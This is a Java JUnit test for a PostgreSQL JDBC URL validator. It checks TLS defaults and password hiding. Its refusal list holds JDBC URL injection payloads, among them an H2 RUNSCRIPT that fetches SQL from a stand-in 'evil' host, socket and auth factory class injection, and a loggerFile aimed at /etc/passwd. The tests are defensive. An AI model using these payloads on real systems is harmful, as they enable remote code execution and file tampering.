package dev.secondwitness.store.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// A database's URL says where it is and how to reach it, and nothing that could do harm.
class PostgresUrlTest {
  @Test
  void aUrlOfThisMachineIsTakenAsItIs() {
    PostgresUrl url = PostgresUrl.of("jdbc:postgresql://127.0.0.1:5433/store");
    assertThat(url.text()).isEqualTo("jdbc:postgresql://127.0.0.1:5433/store");
    assertThat(url.options()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "db.example.org/store",
        "db.example.org:5432/store",
        "10.1.2.3/store",
        "[fe80::1]:5432/store",
        "localhost,db.example.org:5432/store"
      })
  void anotherMachineIsReachedWithItsNameCheckedUnlessTheUrlSaysOtherwise(String rest) {
    assertThat(PostgresUrl.of("jdbc:postgresql://" + rest).options())
        .containsEntry("sslmode", "verify-full");
    assertThat(PostgresUrl.of("jdbc:postgresql://" + rest + "?sslmode=disable").options())
        .containsEntry("sslmode", "disable");
  }

  @Test
  void ofSeveralHostsThePrimaryIsSought() {
    assertThat(PostgresUrl.of("jdbc:postgresql://localhost,127.0.0.1:5433/store").options())
        .isEqualTo(Map.of("targetServerType", "primary"));
  }

  @Test
  void optionsAreDecoded() {
    assertThat(
            PostgresUrl.of(
                    "jdbc:postgresql://localhost/store?sslrootcert=%2Fetc%2Fca.pem&socketTimeout=30")
                .options())
        .isEqualTo(Map.of("sslrootcert", "/etc/ca.pem", "socketTimeout", "30"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:postgresql:store",
        "jdbc:postgresql://localhost/",
        "jdbc:postgresql://localhost/a/b",
        "jdbc:postgresql://someone:secret@localhost/store",
        "jdbc:postgresql://localhost/store?socketFactory=org.evil.Factory",
        "jdbc:postgresql://localhost/store?sslfactory=org.evil.Factory",
        "jdbc:postgresql://localhost/store?socketFactoryArg=x",
        "jdbc:postgresql://localhost/store?loggerFile=/etc/passwd",
        "jdbc:postgresql://localhost/store?authenticationPluginClassName=org.evil.Plugin",
        "jdbc:postgresql://localhost/store?jaasApplicationName=x",
        "jdbc:postgresql://localhost/store?options=-c%20fsync=off",
        "jdbc:postgresql://localhost/store?user=other",
        "jdbc:postgresql://localhost/store?password=secret",
        "jdbc:postgresql://localhost/store?ssl%6Dode=disable",
        "jdbc:postgresql://localhost/store?sslmode=disable&sslmode=require",
        "jdbc:postgresql://localhost/store?sslmode=",
        "jdbc:postgresql://localhost/store?sslmode",
        "jdbc:postgresql://localhost/store?sslmode=require&",
        "jdbc:postgresql://localhost/store\n",
        " jdbc:postgresql://localhost/store"
      })
  void everythingElseIsRefused(String url) {
    assertThatIllegalArgumentException()
        .isThrownBy(() -> PostgresUrl.of(url))
        .withMessageNotContaining("secret");
  }

  @Test
  void neitherUrlNorAddressTellsThePassword() {
    DatabaseAddress address =
        DatabaseAddress.postgres("jdbc:postgresql://localhost/store", "someone", "secret");
    assertThat(address).hasToString("jdbc:postgresql://localhost/store as someone");
  }
}
